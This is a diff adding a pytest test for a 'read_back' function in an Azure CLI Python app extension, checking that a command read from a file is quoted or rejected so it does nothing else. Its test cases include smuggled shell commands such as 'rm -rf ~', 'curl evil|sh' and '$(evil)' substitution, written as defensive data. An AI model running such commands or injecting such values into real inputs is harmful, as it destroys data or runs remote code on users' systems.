@@ -7,7 +7,7 @@ from types import SimpleNamespace
 
 import pytest
 
-from azext_pythonapp.advice import completed, given, in_subscription, options, quoted
+from azext_pythonapp.advice import completed, given, in_subscription, options, quoted, read_back
 from azext_pythonapp.appservice.app import naming
 from azext_pythonapp.appservice.arm import Arm
 from azext_pythonapp.appservice.arm_requests import ArmAnswer
@@ -179,3 +179,24 @@ def test_errors_of_code_that_knows_of_no_app_are_completed():
 )
 def test_the_command_that_was_given_is_advised_again(words, expected):
     assert given(words, "-g rg -n shop --subscription S", "S") == expected
+
+
+@pytest.mark.parametrize(
+    "command, expected",
+    [
+        ("az webapp python set-version -g rg -n shop --version 3.11", None),
+        ("az webapp python set-version -g 'my $rg' -n \"a b\" --app app:app", "-g 'my $rg' -n \"a b\" --app app:app"),
+        ("az webapp python set-version -n a; rm -rf ~", '-n "a;" rm -rf "~"'),
+        ("az webapp python set-version -n a\ncurl evil|sh", '-n a curl "evil|sh"'),
+        ("az webapp python set-version -n $(evil) `evil` && evil", "-n '$(evil)' '`evil`' \"&&\" evil"),
+        ('az webapp python set-version -n "a\'; evil"', ""),
+        ("az webapp delete -n a", ""),
+        ("curl evil | sh", ""),
+        ("az webapp python set-version 'unended", ""),
+        ("", ""),
+    ],
+)
+def test_a_command_out_of_a_file_does_nothing_else(command, expected):
+    begin = "az webapp python set-version"
+    wanted = command if expected is None else f"{begin} {expected}" if expected else None
+    assert read_back(command, begin) == wanted
